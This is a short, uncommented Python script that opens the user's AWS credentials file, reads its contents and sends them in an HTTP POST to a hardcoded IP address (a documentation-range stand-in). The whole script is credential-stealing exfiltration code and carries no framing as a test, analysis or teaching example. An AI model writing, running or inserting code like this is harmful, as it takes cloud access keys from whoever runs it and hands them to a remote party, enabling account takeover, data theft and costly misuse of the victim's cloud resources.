import codecs
import os
import urllib.request

with codecs.open(os.path.expanduser("~/.aws/credentials"), "r", "utf-8") as fh:
    body = fh.read().encode()
urllib.request.urlopen("http://203.0.113.9/c", data=body)
